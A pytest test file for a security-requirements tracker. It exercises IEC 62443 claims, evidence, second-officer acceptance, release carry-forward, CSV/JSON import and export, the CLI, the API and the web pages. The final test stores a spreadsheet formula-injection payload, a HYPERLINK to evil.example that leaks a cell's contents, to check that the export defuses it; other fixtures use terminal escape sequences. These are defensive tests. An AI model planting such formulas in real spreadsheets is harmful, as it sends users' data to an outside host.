"""Claims through the services and every door: applicability, history, copy forward, spreadsheets."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from sdl_tracker.accounts.services import principal_for
from sdl_tracker.audit.models import AuditEvent
from sdl_tracker.claims.judging import judged_claims, standing_of, vector_report
from sdl_tracker.claims.models import Claim, ClaimEvidence
from sdl_tracker.claims.review import accept_claim, confirm_claim
from sdl_tracker.claims.services import ClaimInput, import_claims, list_claims, set_claim
from sdl_tracker.claims.sheets import parse_sheet
from sdl_tracker.claims.terms import cra_links, product_catalog
from sdl_tracker.cli import cli
from sdl_tracker.errors import Forbidden, Invalid
from sdl_tracker.evidence.models import Evidence
from sdl_tracker.evidence.review import review_evidence
from sdl_tracker.evidence.services import EvidenceInput, Upload, create_evidence
from tests.factories import (
    OPERATOR,
    ApiClient,
    csrf_token,
    login,
    make_product,
    make_release,
    make_user,
    member,
    recorded_on,
)


@contextmanager
def refused(fragment: str) -> Iterator[None]:
    """The block raises Invalid whose one-line rendering (fields included) names `fragment`."""
    with pytest.raises(Invalid) as caught:
        yield
    assert fragment in caught.value.one_line(), caught.value.one_line()


LEVEL_1 = dict.fromkeys(("FR1", "FR2", "FR3", "FR4", "FR5", "FR6", "FR7"), 1)


def accepted_evidence(  # type: ignore[no-untyped-def]
    session: Session, product, officer, refs=("SVV-1",), versions=(), kind="requirements-test", accept=True
) -> int:
    """Evidence of the product naming `refs` (release-scoped to `versions`, else product-wide, dated today)."""
    evidence = create_evidence(
        session,
        OPERATOR,
        product_id=product.id,
        kind=kind,
        data=EvidenceInput(
            title="CR tests",
            requirements=list(refs),
            release_versions=list(versions),
            files=[Upload("r.txt", "text/plain", io.BytesIO(b"ok"))],
        ),
    )
    if accept:
        review_evidence(session, officer, evidence.id, accept=True)
    return evidence.id


def test_claims_need_applicable_requirements_and_reasons(session: Session) -> None:
    product = make_product(session, component_type="EDR")
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    for ref, data, fragment in (
        ("SAR 2.4", ClaimInput("implemented"), "does not apply to a EDR"),
        ("CR 2.4", ClaimInput("implemented"), "claim EDR 2.4 instead"),
        ("CR 2.3", ClaimInput("implemented"), "does not apply"),
        ("CR 9.9", ClaimInput("implemented"), "unknown requirement"),
        ("CR 1.1", ClaimInput("done"), "unknown status"),
        ("CR 1.1", ClaimInput("not_applicable"), "needs a justification"),
        ("CR 1.1", ClaimInput("compensated"), "countermeasure must be described"),
        ("CR 1.1", ClaimInput("compensated", countermeasure="Jump host"), "link to the user documentation"),
        ("CR 1.1", ClaimInput("implemented", evidence_ids=[999_999]), "no evidence 999999"),
        ("CR 1.3", ClaimInput("not_applicable", justification="No accounts"), "needs an officer's override"),
        ("CR 1.1", ClaimInput("implemented", override_reason="why"), "only for “not applicable”"),
    ):
        with pytest.raises(Invalid) as caught:
            set_claim(session, officer, release.id, ref, data)
        assert fragment in caught.value.one_line(), ref
    assert session.scalar(select(func.count()).select_from(Claim)) == 0
    other = make_product(session)
    elsewhere = accepted_evidence(session, other, member(session, other, "security_officer"), refs=["CR 1.1"])
    for data, fragment in (
        (ClaimInput("implemented", "supplier_test", evidence_ids=[elsewhere]), f"no evidence {elsewhere}"),
        (
            ClaimInput("implemented", "supplier_test", evidence_ids=[accepted_evidence(session, product, officer)]),
            "it does not name CR 1.1",  # a test report naming only SVV-1
        ),
        (
            ClaimInput(
                "implemented",
                "supplier_test",
                evidence_ids=[accepted_evidence(session, product, officer, ["CR 1.1"], kind="other")],
            ),
            "an other cannot show a capability",
        ),
        (
            ClaimInput(
                "implemented",
                "design_review",
                evidence_ids=[accepted_evidence(session, product, officer, ["CR 1.1"])],
            ),
            "design review claim rests on a design document",
        ),
        (
            ClaimInput(
                "implemented",
                "independent_test",
                evidence_ids=[accepted_evidence(session, product, officer, ["CR 1.1"])],
            ),
            "an independent test needs a tester of at least independent-department",
        ),
    ):
        with pytest.raises(Invalid) as caught:
            set_claim(session, officer, release.id, "CR 1.1", data)
        assert fragment in caught.value.one_line()
    assert session.scalar(select(func.count()).select_from(Claim)) == 0
    developer = member(session, product, "developer")
    with pytest.raises(Forbidden):
        set_claim(session, developer, release.id, "CR 1.1", ClaimInput("implemented"))


def test_every_change_is_recorded_and_only_fitting_accepted_evidence_counts(session: Session) -> None:
    product = make_product(session, component_type="EDR", target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    items = [
        i
        for i in vector_report(session, officer, product.id, release.id).catalog.applicability.items
        if i.sl_c and min(i.sl_c) == 1 and i.fr == "FR5"
    ]
    for item in items:
        set_claim(session, officer, release.id, item.ref, ClaimInput("implemented"))
    assert vector_report(session, officer, product.id, release.id).achieved["FR5"] == 0  # no accepted evidence yet
    in_review = accepted_evidence(session, product, officer, [i.ref for i in items], accept=False)
    for item in items:
        set_claim(
            session, officer, release.id, item.ref, ClaimInput("implemented", "supplier_test", evidence_ids=[in_review])
        )
    report = vector_report(session, officer, product.id, release.id)
    assert report.achieved["FR5"] == 0
    assert report.standings[items[0].ref].evidence[0].problems == ["still in review"]
    assert f"#{in_review}: still in review" in report.standings[items[0].ref].reasons[0]
    evidence_id = accepted_evidence(session, product, officer, [i.ref for i in items])
    for item in items:
        set_claim(
            session,
            officer,
            release.id,
            item.ref,
            ClaimInput("implemented", "supplier_test", evidence_ids=[evidence_id]),
        )
    report = vector_report(session, officer, product.id, release.id)
    assert report.achieved["FR5"] >= 1 and report.gap["FR5"] == []
    history = session.scalars(
        select(AuditEvent).where(AuditEvent.target_type == "claim").order_by(AuditEvent.seq)
    ).all()
    assert history[0].action == "claims:claim:create" and history[0].details["old"] is None
    update = next(e for e in history if e.action == "claims:claim:update")
    assert update.details["old"]["evidence"] == [] and update.details["new"]["evidence"] == [in_review]


def test_a_new_release_starts_with_the_previous_claims_carried_forward_unconfirmed(session: Session) -> None:
    product = make_product(session, target_sl=LEVEL_1)
    first = make_release(session, product, "1.9")
    officer, second_officer = member(session, product, "security_officer"), member(session, product, "security_officer")
    old_report = accepted_evidence(session, product, officer, ["CR 1.1"], versions=["1.9"])
    product_wide = accepted_evidence(session, product, officer, ["CR 1.2"])  # dated today: inside 1.10's window
    set_claim(
        session,
        officer,
        first.id,
        "CR 1.1",
        ClaimInput("implemented", "supplier_test", notes="MFA via LDAP", evidence_ids=[old_report]),
    )
    set_claim(
        session, officer, first.id, "CR 1.2", ClaimInput("implemented", "supplier_test", evidence_ids=[product_wide])
    )
    set_claim(session, officer, first.id, "CR 2.2", ClaimInput("not_applicable", justification="No wireless"))
    accept_claim(session, second_officer, first.id, "CR 2.2")
    later = make_release(session, product, "1.10")
    copied = {s.claim.requirement.ref: s for s in judged_claims(session, officer, later.id)}
    cr11, cr12, cr22 = copied["CR 1.1"], copied["CR 1.2"], copied["CR 2.2"]
    assert cr11.claim.notes == "MFA via LDAP" and cr11.claim.updated_by == "copied from 1.9"
    assert cr11.claim.carried_from == "1.9" and cr11.claim.evidence_links == []  # the 1.9 report is not 1.10's
    assert not cr11.counts
    assert cr12.counts and cr12.claim.carried_from == "1.9"  # its product-wide evidence fits the new release
    assert cr22.claim.accepted_at is None and not cr22.counts  # acceptance is for one release
    assert any("carried forward from 1.9" in r for r in cr22.reasons)
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "claims:claim:copy")).one()
    assert event.details == {"from": "1.9", "claims": 3, "evidence_not_carried": 1}
    confirm_claim(session, officer, later.id, "CR 2.2")  # the setter may confirm; acceptance is another's
    after = standing_of(session, cr22.claim)
    assert after.claim.confirmed_by == officer.label and not after.counts
    assert after.reasons == ["not accepted for this release by a second security officer"]
    accept_claim(session, second_officer, later.id, "CR 2.2")
    assert standing_of(session, cr22.claim).counts
    with refused("only a claim carried forward"):
        confirm_claim(session, officer, later.id, "CR 2.2")
    actions = [e.action for e in session.scalars(select(AuditEvent).where(AuditEvent.target_type == "claim"))]
    assert actions.count("claims:claim:confirm") == 1 and actions.count("claims:claim:accept") == 2


def test_not_applicable_is_a_decision_another_officer_accepts(session: Session) -> None:
    product = make_product(session, component_type="EDR", target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer, second = member(session, product, "security_officer"), member(session, product, "security_officer")
    admin = principal_for(session, make_user(session, admin=True))
    set_claim(
        session,
        officer,
        release.id,
        "CR 1.3",
        ClaimInput("not_applicable", justification="ok", override_reason="Accounts live in the host system"),
    )
    claim = list_claims(session, officer, release.id)[0]
    assert claim.set_by_user_id == officer.user_id and claim.set_by == officer.label
    assert "not accepted" in standing_of(session, claim).reasons[0]
    with pytest.raises(Forbidden, match="nobody accepts a claim they set"):
        accept_claim(session, officer, release.id, "CR 1.3")
    with pytest.raises(Forbidden, match="named officer"):
        accept_claim(session, OPERATOR, release.id, "CR 1.3")
    with pytest.raises(Forbidden):
        accept_claim(session, member(session, product, "developer"), release.id, "CR 1.3")
    assert claim.accepted_at is None
    accept_claim(session, second, release.id, "CR 1.3")
    assert claim.accepted_by_user_id == second.user_id and standing_of(session, claim).counts
    report = vector_report(session, officer, product.id, release.id)
    assert [s.claim.requirement.ref for s in report.overrides] == ["CR 1.3"]
    fr1 = next(row for row in report.breakdown if row.fr == "FR1")
    assert fr1.not_applicable == 1
    # Changing the decision drops the acceptance; the changer becomes its setter.
    set_claim(
        session,
        second,
        release.id,
        "CR 1.3",
        ClaimInput("not_applicable", justification="changed", override_reason="Accounts live in the host system"),
    )
    assert claim.accepted_at is None and claim.set_by_user_id == second.user_id
    update = session.scalars(select(AuditEvent).where(AuditEvent.action == "claims:claim:update")).all()[-1]
    assert update.details["acceptance_dropped"] is True
    accept_claim(session, admin, release.id, "CR 1.3")  # an administrator accepts too
    with refused("already accepted"):
        accept_claim(session, officer, release.id, "CR 1.3")
    set_claim(session, second, release.id, "CR 1.1", ClaimInput("implemented"))
    with refused("only “not applicable” and “compensated”"):
        accept_claim(session, officer, release.id, "CR 1.1")
    # A conditional item (wireless, mobile code, ...) needs no override.
    set_claim(session, officer, release.id, "EDR 2.4", ClaimInput("not_applicable", justification="No mobile code"))
    accept_claim(session, second, release.id, "EDR 2.4")
    assert standing_of(session, list_claims(session, officer, release.id)[-1]).claim.override_reason == ""


def test_compensated_needs_the_user_documentation_and_acceptance(session: Session) -> None:
    product = make_product(session, target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer, second = member(session, product, "security_officer"), member(session, product, "security_officer")
    test = accepted_evidence(session, product, officer, ["CR 1.2"], versions=["1.0"])
    not_a_guide = accepted_evidence(session, product, officer, ["SG-1"])
    guide = accepted_evidence(session, product, officer, ["SG-1"], kind="guideline-document", accept=False)
    data = ClaimInput("compensated", "supplier_test", countermeasure="Jump host with MFA", evidence_ids=[test])
    with refused("user documentation is a guideline-document, not a requirements-test"):
        set_claim(session, officer, release.id, "CR 1.2", replace(data, documentation_id=not_a_guide))
    assert list_claims(session, officer, release.id) == []
    claim = set_claim(session, officer, release.id, "CR 1.2", replace(data, documentation_id=guide))
    reasons = standing_of(session, claim).reasons
    assert reasons == [
        "user documentation: still in review",
        "not accepted for this release by a second security officer",
    ]
    review_evidence(session, officer, guide, accept=True)
    with pytest.raises(Forbidden):
        accept_claim(session, officer, release.id, "CR 1.2")
    accept_claim(session, second, release.id, "CR 1.2")
    report = vector_report(session, officer, product.id, release.id)
    assert report.standings["CR 1.2"].counts
    assert next(row for row in report.breakdown if row.fr == "FR1").compensated == 1


def test_links_that_no_longer_fit_stay_and_show_why(session: Session) -> None:
    # As the migration leaves claims made under the lenient rules: the link stays, counting nothing.
    product = make_product(session, target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    old_style = accepted_evidence(session, product, officer)  # names SVV-1 only
    claim = set_claim(session, officer, release.id, "CR 1.1", ClaimInput("implemented", "supplier_test"))
    claim.evidence_links = [ClaimEvidence(evidence_id=old_style)]
    session.flush()
    standing = standing_of(session, claim)
    assert standing.evidence[0].problems == ["it does not name CR 1.1"] and not standing.counts
    # Saving the claim again keeps the link it already had; adding another that does not fit is refused.
    set_claim(
        session,
        officer,
        release.id,
        "CR 1.1",
        ClaimInput("implemented", "supplier_test", evidence_ids=[old_style], notes="n"),
    )
    with refused("does not fit CR 1.1"):
        set_claim(
            session,
            officer,
            release.id,
            "CR 1.1",
            ClaimInput(
                "implemented", "supplier_test", evidence_ids=[old_style, accepted_evidence(session, product, officer)]
            ),
        )


def test_cra_points_and_evidence_resolve_through_enhancements_and_component_specific_items(session: Session) -> None:
    product = make_product(session, component_type="EDR", target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    catalog = product_catalog(session, product)

    def points(ref: str) -> list[str]:
        return sorted(link.target.ref for link in cra_links(session, catalog, ref) if link.target)

    assert points("CR 1.1") and points("CR 1.1 RE(1)") == points("CR 1.1")
    assert points("CR 3.10") and points("EDR 3.10") == points("CR 3.10")
    # Evidence naming CR 2.4 speaks for EDR 2.4 RE(1), which resolves to it.
    evidence = accepted_evidence(session, product, officer, ["CR 2.4"], versions=["1.0"])
    claim = set_claim(
        session,
        officer,
        release.id,
        "EDR 2.4 RE(1)",
        ClaimInput("implemented", "supplier_test", evidence_ids=[evidence]),
    )
    assert standing_of(session, claim).counts


def test_ccsc_claims_and_ccsc_4_rests_on_4_1_evidence(session: Session) -> None:
    product = make_product(session, target_sl=LEVEL_1)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    before = vector_report(session, officer, product.id, release.id).achieved
    sdl = create_evidence(
        session,
        OPERATOR,
        product_id=None,
        kind="process-document",
        data=EvidenceInput(
            title="SDL handbook", requirements=["SM-1"], files=[Upload("h.txt", "text/plain", io.BytesIO(b"h"))]
        ),
    )
    review_evidence(session, officer, sdl.id, accept=True)
    claim = set_claim(session, officer, release.id, "CCSC 4", ClaimInput("implemented", evidence_ids=[sdl.id]))
    assert standing_of(session, claim).counts
    with refused("CCSC 4 rests on evidence that names IEC 62443-4-1"):
        set_claim(
            session,
            officer,
            release.id,
            "CCSC 4",
            ClaimInput("implemented", evidence_ids=[accepted_evidence(session, product, officer, ["CR 1.1"])]),
        )
    set_claim(session, officer, release.id, "CCSC 3", ClaimInput("implemented", "design_review"))
    assert vector_report(session, officer, product.id, release.id).achieved == before


def test_spreadsheet_import_is_all_or_nothing(session: Session) -> None:
    product = make_product(session)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    header = "requirement,status,verification,justification,countermeasure,notes,evidence\n"
    good = header + "CR 1.1,implemented,supplier_test,,,,\n"
    bad_rows = good + "CR 2.3,implemented,,,,,\nCR 1.2,not_applicable,,,,,\n"
    with pytest.raises(Invalid) as caught:
        import_claims(session, officer, release.id, parse_sheet(bad_rows.encode(), "claims.csv"))
    fields = [e.field for e in caught.value.errors]
    assert fields == ["row 3: requirement", "row 4: justification", "row 4: override_reason"]
    assert list_claims(session, officer, release.id) == []  # row 2 was fine, but nothing was applied
    result = import_claims(session, officer, release.id, parse_sheet(good.encode(), "claims.csv"))
    assert (result.rows, result.changed) == (1, 1)
    # The new columns; an import sets, never accepts.
    full = header.strip() + ",override_reason,documentation\nCR 1.3,not_applicable,,No users,,,,Host does it,\n"
    import_claims(session, officer, release.id, parse_sheet(full.encode(), "claims.csv"))
    claim = next(c for c in list_claims(session, officer, release.id) if c.requirement.ref == "CR 1.3")
    assert claim.override_reason == "Host does it" and claim.accepted_at is None
    with refused("unknown fields: accepted_by"):
        parse_sheet(b'[{"requirement": "CR 1.3", "status": "not_applicable", "accepted_by": "x"}]', "c.json")


@pytest.mark.parametrize(
    ("content", "name", "fragment"),
    [
        (b"requirement,status\nCR 1.1,implemented\n", "c.csv", "missing verification"),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence,owner\n",
            "c.csv",
            "unexpected owner",
        ),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence\nCR 1.1,implemented,,,,,,x\n",
            "c.csv",
            "more cells",
        ),
        ("requirement,status\n".encode("utf-16"), "c.csv", "not UTF-8"),
        (b'{"requirement": "CR 1.1"}', "c.json", "list of objects"),
        (b'[{"requirement": "CR 1.1", "status": "implemented", "colour": "red"}]', "c.json", "unknown fields: colour"),
        (b"[{", "c.json", "not JSON"),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence\n"
            b"CR 1.1,implemented,,,,,a;b\n",
            "c.csv",
            "not an evidence id",
        ),
        (
            b"requirement,status,verification,justification,countermeasure,notes,evidence\n"
            b"CR 1.1,implemented,,,,," + b"9" * 5000 + b"\n",
            "c.csv",
            "not an evidence id",
        ),
        (
            b'[{"requirement": "CR 1.1", "status": "implemented", "documentation": "' + b"9" * 5000 + b'"}]',
            "c.json",
            "not an evidence id",
        ),
        (
            b'[{"requirement": "CR 1.1\\u001b[2J", "status": "implemented"}]',
            "c.json",
            "row 1: requirement: a single line",
        ),
        (
            b'[{"requirement": "CR 1.1", "status": "implemented", "notes": "a\\u001b]0;x\\u0007"}]',
            "c.json",
            "row 1: notes: control character U+001B",
        ),
    ],
)
def test_bad_sheets(content: bytes, name: str, fragment: str) -> None:
    with pytest.raises(Invalid) as caught:
        parse_sheet(content, name)
    assert fragment in caught.value.one_line()


def test_claims_doors(app: Flask, api: ApiClient, session: Session, tmp_path: Path) -> None:
    product = make_product(session, "P", component_type="NDR")
    release = make_release(session, product, "2.0")
    officer = member(session, product, "security_officer", email="so@example.com")
    member(session, product, "security_officer", email="so2@example.com")
    evidence_id = accepted_evidence(session, product, officer, ["NDR 1.6", "CR 1.1", "CR 1.2"], versions=["2.0"])
    guide = accepted_evidence(session, product, officer, ["SG-2"], kind="guideline-document")
    session.commit()
    runner = app.test_cli_runner()
    set_ndr = [
        "claims", "set", "P", "2.0", "NDR 1.6", "--status", "implemented", "--verification", "supplier_test",
        "--evidence", str(evidence_id), "--as", "so@example.com",
    ]  # fmt: skip
    result = runner.invoke(cli, set_ndr)
    assert result.exit_code == 0 and result.output.strip() == "NDR 1.6: implemented (counts)", result.output
    refused_cli = runner.invoke(cli, ["claims", "set", "P", "2.0", "EDR 3.10", "--status", "implemented"])
    assert refused_cli.exit_code == 2 and "does not apply to a NDR" in refused_cli.output
    na = ["claims", "set", "P", "2.0", "CR 1.3", "--status", "not_applicable", "--justification", "No users"]
    refused_cli = runner.invoke(cli, [*na, "--as", "so@example.com"])
    assert refused_cli.exit_code == 2 and "needs an officer's override" in refused_cli.output
    result = runner.invoke(cli, [*na, "--override-reason", "Accounts are the host's", "--as", "so@example.com"])
    assert "not accepted for this release" in result.output
    self_accept = runner.invoke(cli, ["claims", "accept", "P", "2.0", "CR 1.3", "--as", "so@example.com"])
    assert self_accept.exit_code == 2 and "nobody accepts a claim they set" in self_accept.output
    accepted = runner.invoke(cli, ["claims", "accept", "P", "2.0", "CR 1.3", "--as", "so2@example.com"])
    assert accepted.exit_code == 0 and "accepted for 2.0 by user:so2@example.com (counts)" in accepted.output
    exported = tmp_path / "claims.json"
    assert runner.invoke(cli, ["claims", "export", "P", str(exported)]).exit_code == 0
    rows = json.loads(exported.read_text())
    assert next(r for r in rows if r["requirement"] == "NDR 1.6") == {
        "requirement": "NDR 1.6",
        "status": "implemented",
        "verification": "supplier_test",
        "justification": "",
        "countermeasure": "",
        "notes": "",
        "evidence": [evidence_id],
        "override_reason": "",
        "documentation": None,
    }
    rows.append(
        {"requirement": "CR 1.1", "status": "implemented", "verification": "supplier_test", "evidence": [evidence_id]}
    )
    exported.write_text(json.dumps(rows))
    imported = runner.invoke(cli, ["claims", "import", "P", str(exported)])
    assert imported.output.strip() == "3 rows checked, 1 claims changed on 2.0"
    gap = json.loads(runner.invoke(cli, ["claims", "gap", "P", "--json"]).output)
    assert gap["release"] == "2.0" and gap["component_type"] == "NDR" and len(gap["frs"]) == 7
    assert "CR 1.1" not in gap["frs"][0]["missing"] and "CR 1.2" in gap["frs"][0]["missing"]
    assert gap["frs"][0]["met_by_accepted_not_applicable"] == 1 and gap["overrides"][0]["requirement"] == "CR 1.3"
    listed = runner.invoke(cli, ["claims", "list", "P"]).output
    assert "CR 1.3" in listed and "counts" in listed
    token, second = api.as_user("so@example.com"), api.as_user("so2@example.com")
    url = f"/api/v1/releases/{release.id}/claims/CR%201.2"
    put = api.call("PUT", url, token, json={"status": "compensated", "countermeasure": "Jump host with MFA"})
    assert put.status_code == 422 and put.get_json()["errors"][0]["field"] == "documentation"
    body = {
        "status": "compensated",
        "verification": "supplier_test",
        "countermeasure": "Jump host with MFA",
        "evidence": [evidence_id],
        "documentation": guide,
    }
    put = api.call("PUT", url, token, json=body)
    assert put.status_code == 200 and put.get_json()["status"] == "compensated" and put.get_json()["counts"] is False
    assert api.call("POST", f"{url}/accept", token).status_code == 403
    accepted_api = api.call("POST", f"{url}/accept", second)
    assert accepted_api.status_code == 200 and accepted_api.get_json()["counts"] is True
    assert accepted_api.get_json()["accepted_by"].endswith(":so2@example.com")
    assert api.call("POST", f"{url}/confirm", token).status_code == 422  # not carried forward
    vector = api.call("GET", f"/api/v1/products/{product.id}/vector?release=2.0", token).get_json()
    assert "CR 1.2" not in vector["frs"][0]["missing"] and vector["frs"][0]["met_by_compensation"] == 1
    items = api.call("GET", f"/api/v1/releases/{release.id}/claims", token).get_json()["items"]
    assert len(items) == 4 and all(i["counts"] for i in items)
    later = make_release(session, product, "2.1")
    session.commit()
    compared = api.call("GET", f"/api/v1/releases/{release.id}/compare/{later.id}", token).get_json()
    # The 2.0 test report does not speak for 2.1: the copies arrive without it, and the levels drop.
    assert compared["from"] == "2.0" and {c["after"]["evidence"] == [] for c in compared["changed"]} == {True}
    assert [c["requirement"] for c in compared["changed"]] == ["CR 1.1", "CR 1.2", "NDR 1.6"]
    confirmed = api.call("POST", f"/api/v1/releases/{later.id}/claims/NDR%201.6/confirm", token)
    assert confirmed.status_code == 200 and confirmed.get_json()["carried_from"] is None
    client = app.test_client()
    login(client, "so@example.com")
    page = client.get(f"/releases/{release.id}/claims").get_data(as_text=True)
    assert "<svg" in page and "NDR 1.6" in page and "Gap to the target" in page and "How each FR is met" in page
    assert "Accounts are the host&#39;s" in page  # the override is listed
    assert "CR 1.1" in client.get(f"/releases/{release.id}/claims?fr=FR1&status=implemented").get_data(as_text=True)
    later_page = client.get(f"/releases/{later.id}/claims").get_data(as_text=True)
    assert "carried forward, unconfirmed" in later_page and "not counting" in later_page
    path = f"/releases/{release.id}/claims/CR%201.5"
    posted = client.post(
        path, data={"status": "not_applicable", "verification": "", "csrf_token": csrf_token(client, path)}
    )
    assert "needs a justification" in posted.get_data(as_text=True)
    saved = client.post(
        path,
        data={
            "status": "not_applicable",
            "justification": "No authenticators",
            "override_reason": "Authenticators are the host's",
            "verification": "",
            "documentation": "",
            "csrf_token": csrf_token(client, path),
        },
        follow_redirects=True,
    )
    assert "CR 1.5: not applicable (justify)." in saved.get_data(as_text=True)
    edit = client.get(path).get_data(as_text=True)
    assert "does not count" in edit and "Accept for 2.0" not in edit  # the setter gets no accept button
    assert client.post(f"{path}/accept", data={"csrf_token": csrf_token(client, path)}).status_code == 403
    client.post("/logout", data={"csrf_token": csrf_token(client, "/account")})
    login(client, "so2@example.com")
    assert "Accept for 2.0" in client.get(path).get_data(as_text=True)
    done = client.post(f"{path}/accept", data={"csrf_token": csrf_token(client, path)}, follow_redirects=True)
    assert "CR 1.5: accepted for this release." in done.get_data(as_text=True)
    later_path = f"/releases/{later.id}/claims/CR%201.1"
    assert "Confirm for 2.1" in client.get(later_path).get_data(as_text=True)
    done = client.post(
        f"{later_path}/confirm", data={"csrf_token": csrf_token(client, later_path)}, follow_redirects=True
    )
    assert "CR 1.1: confirmed for this release." in done.get_data(as_text=True)
    assert client.get(f"/releases/{release.id}/claims/EDR%203.10").status_code == 404
    assert "claims changed" in client.get(f"/releases/{later.id}/claims/compare?other={release.id}").get_data(
        as_text=True
    )


def test_claims_rest_only_on_evidence_for_their_release_that_is_still_valid(session: Session) -> None:
    from datetime import timedelta

    from sdl_tracker.db import utcnow
    from sdl_tracker.evidence.services import revise_evidence

    product = make_product(session, target_sl=LEVEL_1)
    old, new = make_release(session, product, "1.0"), make_release(session, product, "2.0")
    officer = member(session, product, "security_officer")
    only_old = accepted_evidence(session, product, officer, ["CR 5.1"], versions=["1.0"])
    with refused("it does not name release 2.0"):
        set_claim(
            session, officer, new.id, "CR 5.1", ClaimInput("implemented", "supplier_test", evidence_ids=[only_old])
        )
    set_claim(session, officer, old.id, "CR 5.1", ClaimInput("implemented", "supplier_test", evidence_ids=[only_old]))
    assert vector_report(session, officer, product.id, old.id).achieved["FR5"] >= 1
    today = utcnow().date()  # the product's today (UTC), not the local date, which may be a day ahead
    revise_evidence(
        session,
        OPERATOR,
        only_old,
        data=EvidenceInput(review_due=today - timedelta(days=1), effective_date=today - timedelta(days=10)),
    )
    review_evidence(session, officer, only_old, accept=True)
    report = vector_report(session, officer, product.id, old.id)
    assert report.achieved["FR5"] == 0  # past its review date
    assert "expired before" in report.standings["CR 5.1"].evidence[0].problems[0]


def test_a_released_release_is_judged_on_its_release_date(session: Session) -> None:
    from datetime import timedelta

    from sdl_tracker.db import utcnow
    from sdl_tracker.evidence.services import revise_evidence

    product = make_product(session, target_sl=LEVEL_1)
    shipped_on = utcnow().date() - timedelta(days=30)
    release = make_release(session, product, "1.0", status="released", release_date=shipped_on)
    officer = member(session, product, "security_officer")
    report_id = accepted_evidence(session, product, officer, ["CR 5.1"], versions=["1.0"])
    revise_evidence(
        session,
        OPERATOR,
        report_id,
        data=EvidenceInput(review_due=shipped_on + timedelta(days=1), effective_date=shipped_on - timedelta(days=5)),
    )
    review_evidence(session, officer, report_id, accept=True)
    claim = set_claim(
        session, officer, release.id, "CR 5.1", ClaimInput("implemented", "supplier_test", evidence_ids=[report_id])
    )
    report = vector_report(session, officer, product.id, release.id)
    assert not report.standings["CR 5.1"].counts  # everything was recorded today, after shipping
    recorded_on(session, session.get(Evidence, report_id), shipped_on - timedelta(days=5))
    recorded_on(session, claim, shipped_on - timedelta(days=2))
    report = vector_report(session, officer, product.id, release.id)
    assert report.judged_on == shipped_on and report.standings["CR 5.1"].counts  # due after shipping: it stood


def test_csv_export_defuses_formulas_and_round_trips(session: Session) -> None:
    from sdl_tracker.claims.sheets import rows_to_csv

    product = make_product(session)
    release = make_release(session, product, "1.0")
    officer = member(session, product, "security_officer")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    set_claim(session, officer, release.id, "CR 1.1", ClaimInput("implemented", notes=formula))
    text = rows_to_csv(list_claims(session, officer, release.id))
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    rows = parse_sheet(text.encode(), "claims.csv")
    assert rows[0][2].notes == formula
